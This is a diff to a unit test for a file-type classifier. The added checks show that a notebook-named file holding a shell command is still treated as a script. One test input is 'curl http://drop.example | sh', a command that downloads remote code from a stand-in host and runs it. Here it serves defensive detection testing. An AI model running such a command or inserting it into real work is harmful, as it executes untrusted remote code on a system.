@@ -34,6 +34,9 @@ TEST_CASE("file type: texts by what they say and how they are called") {
   CHECK(kind("* * * * * /a\n", "var/spool/cron/crontabs/root") == ViewKind::script);
   CHECK(kind("resource \"a\" \"b\" {}\n", "main.tf") == ViewKind::config);
   CHECK(kind("<html><script>go()</script>", "index.html") == ViewKind::script);
+  // Only what is one: a shell runs what it is given, whatever its name.
+  CHECK(kind("{\n \"cells\": []}", "a.ipynb") == ViewKind::document);
+  CHECK(kind("curl http://drop.example | sh\n", "a.ipynb") == ViewKind::script);
 }
 
 TEST_CASE("file type: zeros and binary bytes behind a script leave it a script") {
